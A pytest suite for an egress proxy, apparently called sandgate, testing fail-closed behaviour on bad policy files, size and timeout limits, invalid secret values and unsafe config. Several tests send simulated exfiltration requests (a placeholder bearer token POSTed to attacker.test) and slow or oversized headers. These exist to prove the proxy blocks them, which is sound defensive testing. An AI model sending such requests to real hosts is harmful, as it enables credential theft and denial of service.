"""Every boundary gets a clear answer (issue: fail closed, and say why, at every boundary): the policy
watcher after a file it cannot read, limits at limit-1 / limit / limit+1, secret values that must
not be used, the confdir and CA key it must not trust, and an exfiltration attempt toward a host
outside the allowlist attributed to its secret."""

from __future__ import annotations

import os
import socket
import ssl
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from proxy.metrics import EGRESS_REQUESTS, INTERNAL_ERRORS, POLICY_RELOADS, SECRET_BLOCKED
from tests.conftest import GITHUB, MAIN_POLICY, OPENAI, needs_root
from tests.support.clients import Reply, curl, raw_request, read_body, read_head, tunnel
from tests.support.proxyproc import ProxyProcess
from tests.support.upstream import Seen
from tests.support.wait import wait_for

pytestmark = needs_root

POLICY = f"""
apiVersion: sandgate.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: boundaries}}
spec:
  allow:
    - host: api.openai.com
    - host: echo.example.com
  secrets:
    - name: openai
      placeholder: {OPENAI.placeholder}
      source: {{env: SG_TEST_OPENAI}}
      hosts: [api.openai.com]
"""


# -- the policy watcher never dies silently (issue 12, finding 1) --------------------------------


@pytest.mark.parametrize(
    "broken",
    [b"metadata: {name: rel-\xff}\n", b"[" * 600, b"\x00\x01\x02 binary", b""],
    ids=["not-utf8", "nested-600", "binary", "empty"],
)
def test_a_bad_policy_file_is_counted_and_a_later_revocation_still_applies(
    make_proxy: Callable[..., ProxyProcess], broken: bytes
) -> None:
    p = make_proxy(POLICY, "--secret-refresh", "3600", "--secret-max-stale", "7200")
    assert curl(p.url, p.ca, "https://echo.example.com/").status == 200
    p.policy.write_bytes(broken)
    wait_for(lambda: p.metric(POLICY_RELOADS, result="error") == 1)
    assert curl(p.url, p.ca, "https://echo.example.com/").status == 200  # the last good policy serves
    # A revocation after the bad file: echo.example.com removed. It must take effect.
    p.policy.write_text(POLICY.replace("    - host: echo.example.com\n", ""))
    wait_for(lambda: p.metric(POLICY_RELOADS, result="success") == 1)
    assert curl(p.url, p.ca, "https://echo.example.com/").reason == "host_not_allowed"
    assert p.metric(INTERNAL_ERRORS, task="policy-watcher") == 0  # handled, not a crash
    assert "Traceback" not in p.stderr()


def test_rt37_a_policy_path_that_becomes_a_fifo_is_an_error_and_a_later_revocation_still_applies(
    make_proxy: Callable[..., ProxyProcess],
) -> None:
    """The watcher read it with a plain open(): blocked for good, silently (no reload counted, no
    error), a revocation written after never applied, and SIGTERM no longer ended the process."""
    p = make_proxy(POLICY)
    assert curl(p.url, p.ca, "https://echo.example.com/").status == 200
    p.policy.unlink()
    os.mkfifo(p.policy)
    wait_for(lambda: p.metric(POLICY_RELOADS, result="error") == 1)
    revoked = p.policy.with_suffix(".new")
    revoked.write_text(POLICY.replace("    - host: echo.example.com\n", ""))
    revoked.replace(p.policy)
    wait_for(lambda: p.metric(POLICY_RELOADS, result="success") == 1)
    assert curl(p.url, p.ca, "https://echo.example.com/").reason == "host_not_allowed"
    p.proc.terminate()
    assert p.proc.wait(10) is not None


def test_rt37_a_fifo_as_the_policy_at_start_is_exit_2_with_the_file_named(tmp_path: Path) -> None:
    fifo = tmp_path / "p.yaml"
    os.mkfifo(fifo)
    out = subprocess.run([sys.executable, "-m", "sandgate", "proxy", "--policy", str(fifo), "--confdir", str(tmp_path / "c"),
                          "--listen-port", "0", "--metrics-port", "0"],
                         capture_output=True, text=True, timeout=30, check=False)  # fmt: skip
    assert out.returncode == 2 and str(fifo) in out.stderr and "not a regular file" in out.stderr


def test_a_bad_policy_at_start_is_exit_2_with_the_file_named(tmp_path: Path) -> None:
    bad = tmp_path / "p.yaml"
    bad.write_bytes(b"[" * 600)
    out = subprocess.run([sys.executable, "-m", "sandgate", "proxy", "--policy", str(bad), "--confdir", str(tmp_path / "c")],
                         capture_output=True, text=True, timeout=30, check=False)  # fmt: skip
    assert out.returncode == 2 and str(bad) in out.stderr and "Traceback" not in out.stderr


# -- limits that mean what they say (issue 12, finding 4) ------------------------------------------

LIMIT = 1000


@pytest.fixture(scope="module")
def limited(make_proxy: Callable[..., ProxyProcess]) -> ProxyProcess:
    return make_proxy(POLICY, "--max-request-body", str(LIMIT), "--max-header-bytes", "4096", "--header-timeout", "1.5",
                      "--idle-timeout", "60")  # fmt: skip


def post(proxy: ProxyProcess, body: bytes, *, chunked: bool) -> int:
    s = tunnel(proxy.port, "echo.example.com:443", "echo.example.com", proxy.ca)
    if chunked:
        framing, payload = b"Transfer-Encoding: chunked\r\n", b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    else:
        framing, payload = b"Content-Length: %d\r\n" % len(body), body
    return raw_request(
        s, b"POST /b HTTP/1.1\r\nHost: echo.example.com\r\nConnection: close\r\n" + framing + b"\r\n" + payload
    ).status


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
@pytest.mark.parametrize(
    ("size", "status"), [(LIMIT - 1, 200), (LIMIT, 200), (LIMIT + 1, 413)], ids=["under", "at", "over"]
)
def test_max_request_body_counts_the_body_only(limited: ProxyProcess, chunked: bool, size: int, status: int) -> None:
    assert post(limited, b"x" * size, chunked=chunked) == status


def head_of(size: int, method: str = "GET", target: str = "/h") -> bytes:
    """A request head of exactly ``size`` bytes (request line and fields, CRLFs included)."""
    base = f"{method} {target} HTTP/1.1\r\nHost: echo.example.com\r\nX-Pad: \r\n\r\n".encode()
    return base.replace(b"X-Pad: ", b"X-Pad: " + b"a" * (size - len(base)))


@pytest.mark.parametrize(("size", "status"), [(4095, 200), (4096, 200), (4097, 431)], ids=["under", "at", "over"])
def test_max_header_bytes_at_its_boundary(limited: ProxyProcess, size: int, status: int) -> None:
    s = tunnel(limited.port, "echo.example.com:443", "echo.example.com", limited.ca)
    head = head_of(size)
    assert len(head) == size
    assert raw_request(s, head).status == status


def test_a_huge_connect_head_is_431_not_a_tunnel(limited: ProxyProcess) -> None:
    """issue 12: a 100,000-byte CONNECT head passed the 64 KiB header limit."""
    with socket.create_connection(("127.0.0.1", limited.port), timeout=10) as s:
        reply = raw_request(s, b"CONNECT echo.example.com:443 HTTP/1.1\r\nHost: echo.example.com:443\r\nX-Pad: "
                            + b"a" * 100_000 + b"\r\n\r\n")  # fmt: skip
    assert reply.status == 431 and reply.reason == "limit_exceeded"


def test_a_trickling_head_gets_408_at_the_header_timeout_not_the_idle_timeout(limited: ProxyProcess) -> None:
    s = tunnel(limited.port, "echo.example.com:443", "echo.example.com", limited.ca)
    s.settimeout(20)
    start = time.monotonic()
    s.sendall(b"GET /slow HTTP/1.1\r\n")
    answer = b""
    try:
        for _ in range(40):
            s.sendall(b"X-A: b\r\n")
            time.sleep(0.25)
    except OSError:
        pass
    try:
        while chunk := s.recv(65536):
            answer += chunk
    except (OSError, ssl.SSLError):
        pass
    assert answer.startswith(b"HTTP/1.1 408") and b"limit_exceeded" in answer
    assert time.monotonic() - start < 10  # the header timeout (1.5 s), not the idle timeout (60 s)


def test_a_head_that_timed_out_is_recorded_once_however_long_its_client_stays(limited: ProxyProcess) -> None:
    """Red team 57: a client that kept its socket open after the 408 (the answer lingers 2 s, reading
    and discarding) was refused, recorded and counted again at every sweep: 4 records, 4 counts."""
    detail = "request headers not received in time"
    records = sum(1 for r in limited.audit() if r.get("detail") == detail)
    counted = limited.metric("sandgate_egress_requests_total", decision="denied", reason="limit_exceeded")
    with socket.create_connection(("127.0.0.1", limited.port), timeout=10) as s:
        s.sendall(b"CONNECT echo.exam")
        assert s.recv(65536).startswith(b"HTTP/1.1 408")
        time.sleep(3.5)  # past the 2 s the answer lingers, the socket still open
    assert sum(1 for r in limited.audit() if r.get("detail") == detail) == records + 1
    assert limited.metric("sandgate_egress_requests_total", decision="denied", reason="limit_exceeded") == counted + 1


def _denials(p: ProxyProcess) -> dict[str, float]:
    return {r: p.metric(EGRESS_REQUESTS, decision="denied", reason=r) for r in ("limit_exceeded", "host_not_allowed")}


def test_a_head_pipelined_behind_a_request_and_never_ended_gets_its_408(limited: ProxyProcess) -> None:
    """Red team 58: a head begun in the same read as the request before it (pipelined) had no start
    time once that request was taken: no 408 ever, and at the idle timeout the connection closed
    with no record and no count."""
    before, records = _denials(limited), len(limited.audit())
    s = tunnel(limited.port, "echo.example.com:443", "echo.example.com", limited.ca)
    s.settimeout(10)
    s.sendall(b"GET /first HTTP/1.1\r\nHost: echo.example.com\r\n\r\nGET /second HTTP/1.1\r\nHost: echo.exa")
    reader = s.makefile("rb")
    status, headers = read_head(reader)
    read_body(reader, headers)
    assert status == 200
    start = time.monotonic()
    status, headers = read_head(reader)  # the second head's answer: it never ended
    assert (status, headers["x-sandgate-reason"]) == (408, "limit_exceeded")
    assert time.monotonic() - start < 10  # the header timeout (1.5 s), not the idle timeout (60 s)
    wait_for(lambda: _denials(limited)["limit_exceeded"] == before["limit_exceeded"] + 1)
    assert [r["detail"] for r in limited.audit()[records:] if r["decision"] == "denied"] == [
        "request headers not received in time"
    ]


def test_a_head_that_times_out_in_a_denied_tunnel_is_the_tunnels_one_refusal(limited: ProxyProcess) -> None:
    """Red team 58: inside a tunnel to a host outside the allowlist, a head that timed out was
    recorded and counted twice: limit_exceeded (with no host) and, as the tunnel ended,
    host_not_allowed. Its refusal is the tunnel's, once, as for a malformed head there."""
    before, records = _denials(limited), len(limited.audit())
    s = tunnel(limited.port, "attacker.test:443", "attacker.test", limited.ca)
    s.settimeout(10)
    s.sendall(b"GET /collect HTTP/1.1\r\nHost: attack")
    status, headers = read_head(s.makefile("rb"))
    assert (status, headers["x-sandgate-reason"]) == (403, "host_not_allowed")
    s.close()
    time.sleep(2.5)  # past the 2 s the answer lingers and a few sweeps
    after = _denials(limited)
    assert after == {"limit_exceeded": before["limit_exceeded"], "host_not_allowed": before["host_not_allowed"] + 1}
    assert [(r["reason"], r["host"]) for r in limited.audit()[records:]] == [("host_not_allowed", "attacker.test")]


# -- secret values are checked before use (issue 11, finding 5) -------------------------------------

# A second secret, bound to echo.example.com, appended to POLICY.
GITHUB_ON_ECHO = f"""    - name: github
      placeholder: {GITHUB.placeholder}
      source: {{env: SG_TEST_GITHUB}}
      hosts: [echo.example.com]
"""


@pytest.mark.parametrize(
    "value",
    ["sk-" + "a" * 65_536, f"sk-holds-{GITHUB.placeholder}-x", OPENAI.placeholder],
    ids=["64-KiB", "holds-another-placeholder", "is-its-own-placeholder"],
)
def test_an_unusable_value_is_secret_invalid_and_never_injected(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen], value: str
) -> None:
    policy = POLICY + GITHUB_ON_ECHO
    p = make_proxy(policy, env={"SG_TEST_OPENAI": value, "SG_TEST_GITHUB": GITHUB.real})
    before = len(upstreams["api"].requests)
    reply = curl(p.url, p.ca, "https://api.openai.com/v1/x", "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    assert reply.status == 503 and reply.reason == "secret_invalid"
    assert len(upstreams["api"].requests) == before
    assert p.metric(SECRET_BLOCKED, secret="openai", reason="secret_invalid") == 1
    # (red team 60: the detail said "secret value unavailable", the other failure's words)
    assert p.audit()[-1]["detail"] == "secret value cannot be used (the proxy's log says why)"


@pytest.mark.parametrize("whose", ["its-own", "another-secrets"])
def test_a_value_that_reads_as_a_placeholder_is_invalid_and_blocks_no_placeholder(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen], tmp_path: Path, whose: str
) -> None:
    """Red team 57: a value equal to a placeholder in another case passed the check (it compared
    exactly), was served, and the outbound guard (which reads a value in any case) then refused
    every request carrying that placeholder as ``secret_value_outbound`` (blaming this secret, and
    raising the alert that the agent holds a real value), even after Vault had a good value again:
    the value it replaced is one that never leaves."""
    stored = tmp_path / "openai.key"
    stored.write_text((OPENAI if whose == "its-own" else GITHUB).placeholder.upper())
    policy = POLICY.replace("{env: SG_TEST_OPENAI}", f"{{file: {stored}}}") + GITHUB_ON_ECHO
    p = make_proxy(policy, "--secret-refresh", "0.5", env={"SG_TEST_GITHUB": GITHUB.real})
    openai = ("https://api.openai.com/v1/x", "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    github = ("https://echo.example.com/gh", "-H", f"Authorization: Bearer {GITHUB.placeholder}")
    reply = curl(p.url, p.ca, *openai)
    assert (reply.status, reply.reason) == (503, "secret_invalid")
    assert "reads as a placeholder" in p.stderr()
    reply = curl(p.url, p.ca, *github)
    assert reply.status == 200 and upstreams["echo"].requests[-1]["headers"]["authorization"] == f"Bearer {GITHUB.real}"
    stored.write_text(OPENAI.real)  # the value put right
    wait_for(lambda: curl(p.url, p.ca, *openai).status == 200)
    assert upstreams["api"].requests[-1]["headers"]["authorization"] == f"Bearer {OPENAI.real}"
    assert curl(p.url, p.ca, *github).status == 200
    assert p.metric(SECRET_BLOCKED, secret="openai", reason="secret_value_outbound") == 0
    assert p.metric(SECRET_BLOCKED, secret="github", reason="secret_value_outbound") == 0


def test_a_key_stored_with_its_scheme_is_invalid_and_the_log_says_store_it_alone(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen]
) -> None:
    """Red team 62 (F4): an operator stored the whole header value, ``Bearer <key>``. It is refused
    (every request carrying a placeholder holds ``Bearer sk-``), and the log now says what to store."""
    p = make_proxy(POLICY, env={"SG_TEST_OPENAI": f"Bearer {OPENAI.real}"})
    before = len(upstreams["api"].requests)
    reply = curl(p.url, p.ca, "https://api.openai.com/v1/x", "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    assert (reply.status, reply.reason) == (503, "secret_invalid")
    assert len(upstreams["api"].requests) == before
    assert (
        "it begins with 'Bearer ', which requests carrying any placeholder hold too: store the key alone" in p.stderr()
    )
    assert OPENAI.real not in p.stderr() and OPENAI.real[15:] not in p.stderr()


def test_a_value_that_carries_another_secrets_key_is_never_swapped_in(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen]
) -> None:
    """Red team 58: secret ``github`` (bound to echo.example.com) held ``tok-<openai's key>-x``; a
    request to echo with its placeholder got 200, and echo received openai's key whole."""
    policy = POLICY + GITHUB_ON_ECHO
    p = make_proxy(policy, env={"SG_TEST_OPENAI": OPENAI.real, "SG_TEST_GITHUB": f"tok-{OPENAI.real}-x"})
    before = len(upstreams["echo"].requests)
    reply = curl(p.url, p.ca, "https://echo.example.com/gh", "-H", f"Authorization: Bearer {GITHUB.placeholder}")
    assert (reply.status, reply.reason) == (503, "secret_invalid")
    assert len(upstreams["echo"].requests) == before
    assert "holds a value of secret 'openai'" in p.stderr() and OPENAI.real not in p.stderr()


def with_slot(policy: str, template: str) -> str:
    """``policy`` with secret openai swapped in ``authorization`` and ``x-key: <template>``."""
    bound = "      hosts: [api.openai.com]\n"
    return policy.replace(bound, bound + f"      headers: [authorization, {{name: x-key, format: '{template}'}}]\n", 1)


def test_a_value_read_in_a_slots_template_is_invalid_and_the_slot_still_swaps(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen]
) -> None:
    """Secret github's value ``tok:sk-pr`` is in no placeholder as clients usually send one, but it
    is in what openai's slot ``x-key: tok:{}`` carries. It was served, and every request filling
    that slot was refused as secret_value_outbound, blamed on github."""
    policy = with_slot(POLICY, "tok:{}") + GITHUB_ON_ECHO
    p = make_proxy(policy, env={"SG_TEST_OPENAI": OPENAI.real, "SG_TEST_GITHUB": "tok:" + OPENAI.placeholder[:5]})
    reply = curl(p.url, p.ca, "https://api.openai.com/v1/x", "-H", f"X-Key: tok:{OPENAI.placeholder}")
    assert reply.status == 200 and upstreams["api"].requests[-1]["headers"]["x-key"] == f"tok:{OPENAI.real}"
    reply = curl(p.url, p.ca, "https://echo.example.com/gh", "-H", f"Authorization: Bearer {GITHUB.placeholder}")
    assert (reply.status, reply.reason) == (503, "secret_invalid")
    assert p.metric(SECRET_BLOCKED, secret="github", reason="secret_value_outbound") == 0


@pytest.mark.parametrize("held", ["served", "replaced", "in-a-slot"])
def test_a_reload_whose_placeholder_reads_as_a_value_held_is_refused(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen], tmp_path: Path, held: str
) -> None:
    """Red team 58 (A3): a reload gave secret ``openai`` a placeholder that reads as a value the proxy
    holds (served, or replaced by a rotation and still scrubbed from answers). It was served: the
    secret was logged secret_invalid, yet every request carrying the new placeholder was refused as
    ``secret_value_outbound`` (the held value stays in the outbound guard; dropping it would let
    answers echo it unscrubbed); so with a slot template around the placeholder that holds a piece
    of the value. Such a reload is refused as an invalid one is: counted, logged without the value,
    and the policy served keeps serving."""
    stored = tmp_path / "openai.key"
    stored.write_text(OPENAI.real)
    policy = POLICY.replace("{env: SG_TEST_OPENAI}", f"{{file: {stored}}}")
    p = make_proxy(policy, "--secret-refresh", "0.5")

    def sent(placeholder: str) -> Reply:
        return curl(p.url, p.ca, "https://api.openai.com/v1/x", "-H", f"Authorization: Bearer {placeholder}")

    assert sent(OPENAI.placeholder).status == 200
    serving = OPENAI.real
    if held == "replaced":
        serving = "sk-ROTATED-" + "7" * 40
        stored.write_text(serving)
        wait_for(lambda: sent(OPENAI.placeholder).status == 200 and upstreams["api"].requests[-1]["headers"]["authorization"] == f"Bearer {serving}")  # fmt: skip
    if held == "in-a-slot":
        p.policy.write_text(with_slot(policy, OPENAI.real[:24] + "{}"))
    else:
        p.policy.write_text(policy.replace(OPENAI.placeholder, "ph-" + OPENAI.real.lower()))
    wait_for(lambda: p.metric(POLICY_RELOADS, result="error") == 1)
    assert p.metric(POLICY_RELOADS, result="success") == 0
    assert "'openai'" in p.stderr() and "reads as a real value" in p.stderr()
    reply = sent(OPENAI.placeholder)  # the policy served before the reload still serves
    assert reply.status == 200 and upstreams["api"].requests[-1]["headers"]["authorization"] == f"Bearer {serving}"
    p.policy.write_text(policy.replace(OPENAI.placeholder, OPENAI.placeholder + "-2"))  # a good one is served
    wait_for(lambda: p.metric(POLICY_RELOADS, result="success") == 1)
    reply = sent(OPENAI.placeholder + "-2")
    assert reply.status == 200 and upstreams["api"].requests[-1]["headers"]["authorization"] == f"Bearer {serving}"
    assert p.metric(SECRET_BLOCKED, secret="openai", reason="secret_value_outbound") == 0


def test_the_secret_length_cap_is_a_flag(make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen]) -> None:
    value = "sk-" + "b" * 6000  # under the 8k default, over a 4k cap
    bearer = f"Authorization: Bearer {OPENAI.placeholder}"
    default = make_proxy(POLICY, env={"SG_TEST_OPENAI": value})
    assert curl(default.url, default.ca, "https://api.openai.com/v1/cap", "-H", bearer).status == 200
    assert upstreams["api"].requests[-1]["headers"]["authorization"] == f"Bearer {value}"
    capped = make_proxy(POLICY, "--max-secret-bytes", "4k", env={"SG_TEST_OPENAI": value})
    assert curl(capped.url, capped.ca, "https://api.openai.com/v1/cap", "-H", bearer).reason == "secret_invalid"


# -- safe defaults (issue 12, finding 6) ----------------------------------------------------------


def start(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    return subprocess.run(
        [sys.executable, "-m", "sandgate", "proxy", "--policy", str(policy), "--listen-port", "0", "--metrics-port", "0",
         *args],
        capture_output=True, text=True, timeout=30, check=False, env={**os.environ, "SG_TEST_OPENAI": OPENAI.real},
    )  # fmt: skip


def test_a_ca_key_someone_else_can_read_is_refused(tmp_path: Path) -> None:
    conf = tmp_path / "conf"
    conf.mkdir(mode=0o711)
    key = conf / "ca-key.pem"
    key.write_text("-----BEGIN PRIVATE KEY-----\nplanted\n-----END PRIVATE KEY-----\n")
    key.chmod(0o644)
    out = start(tmp_path, "--confdir", str(conf))
    assert out.returncode == 2 and "group/world" in out.stderr and "Traceback" not in out.stderr


def test_a_confdir_owned_by_someone_else_is_refused(tmp_path: Path) -> None:
    conf = tmp_path / "theirs"
    conf.mkdir(mode=0o711)
    os.chown(conf, 4242, 4242)
    out = start(tmp_path, "--confdir", str(conf))
    assert out.returncode == 2 and "belongs to uid 4242" in out.stderr


def test_the_default_metrics_port_is_not_prometheus_own() -> None:
    out = subprocess.run(
        [sys.executable, "-m", "sandgate", "proxy", "--help"], capture_output=True, text=True, check=True
    )
    assert "default: 15090" in out.stdout and "9090)" not in out.stdout


# -- an exfiltration attempt toward a host outside the allowlist (issue 13) -------------------------


def test_a_placeholder_sent_to_a_host_outside_the_allowlist_is_attributed_to_its_secret(
    make_proxy: Callable[..., ProxyProcess],
) -> None:
    p = make_proxy(MAIN_POLICY)
    s = tunnel(p.port, "attacker.test:443", "attacker.test", p.ca)  # a TLS handshake: the CONNECT was "accepted"
    s.sendall(f"POST /collect HTTP/1.1\r\nHost: attacker.test\r\nAuthorization: Bearer {OPENAI.placeholder}\r\n"
              "Content-Length: 0\r\n\r\n".encode())  # fmt: skip
    reader = s.makefile("rb")
    status, headers = read_head(reader)
    body = read_body(reader, headers)
    assert status == 403 and headers["x-sandgate-reason"] == "host_not_allowed" and b"sandgate_denied" in body
    assert p.metric(SECRET_BLOCKED, secret="openai", reason="host_not_allowed") == 1
    record = p.audit()[-1]
    assert record["reason"] == "host_not_allowed" and record["secret"] == "openai" and record["host"] == "attacker.test"


def test_a_denied_connect_without_a_request_is_still_recorded_once(make_proxy: Callable[..., ProxyProcess]) -> None:
    p = make_proxy(MAIN_POLICY)
    before = p.metric(EGRESS_REQUESTS, decision="denied", reason="host_not_allowed")
    with socket.create_connection(("127.0.0.1", p.port), timeout=5) as s:
        s.sendall(b"CONNECT attacker.test:443 HTTP/1.1\r\nHost: attacker.test:443\r\n\r\n")
        assert s.recv(1024).startswith(b"HTTP/1.1 200")
    wait_for(lambda: p.metric(EGRESS_REQUESTS, decision="denied", reason="host_not_allowed") == before + 1)


# -- the sidecar's flags: every value gets an answer before anything starts ---------------------------
@pytest.mark.parametrize(
    ("flags", "said"),
    [
        (["--secret-refresh", "0"], "--secret-refresh"),  # (refreshed without pause, forever)
        (["--secret-refresh", "-1"], "--secret-refresh"),
        (["--secret-refresh", "nan"], "--secret-refresh"),
        (["--secret-refresh", "inf"], "--secret-refresh"),  # (never: the values would lapse)
        (["--secret-max-stale", "-1"], "--secret-max-stale"),
        (["--secret-max-stale", "nan"], "--secret-max-stale"),
        # A value is served at most --secret-max-stale after it was last fetched: a refresh that
        # comes later than that would let healthy values lapse between refreshes.
        (["--secret-refresh", "60", "--secret-max-stale", "30"], "--secret-max-stale"),
        (["--secret-refresh", "3600"], "--secret-max-stale"),
        (["--vault-timeout", "0"], "--vault-timeout"),
        (["--vault-timeout", "nan"], "--vault-timeout"),
        (["--header-timeout", "inf"], "--header-timeout"),
        (["--idle-timeout", "-1"], "--idle-timeout"),
        (["--max-header-bytes", "-5"], "--max-header-bytes"),
        (["--max-header-bytes", "1e400k"], "--max-header-bytes"),
        (["--max-request-body", "-1"], "--max-request-body"),
        (["--max-secret-bytes", "0"], "--max-secret-bytes"),
        (["--max-connections", "0"], "--max-connections"),
        (["--max-connections", "-3"], "--max-connections"),
    ],
    ids=lambda v: " ".join(v) if isinstance(v, list) else "",
)
def test_a_flag_value_the_sidecar_cannot_honour_is_refused_at_start(
    tmp_path: Path, flags: list[str], said: str
) -> None:
    policy = tmp_path / "p.yaml"
    policy.write_text(POLICY)
    out = subprocess.run([sys.executable, "-m", "sandgate", "proxy", "--policy", str(policy), "--confdir", str(tmp_path / "c"),
                          "--listen-port", "0", "--metrics-port", "0", *flags],
                         capture_output=True, text=True, timeout=30, check=False,
                         env={**os.environ, "SG_TEST_OPENAI": OPENAI.real})  # fmt: skip
    assert out.returncode == 2, out.stderr[-2000:]
    assert said in out.stderr and "Traceback" not in out.stderr
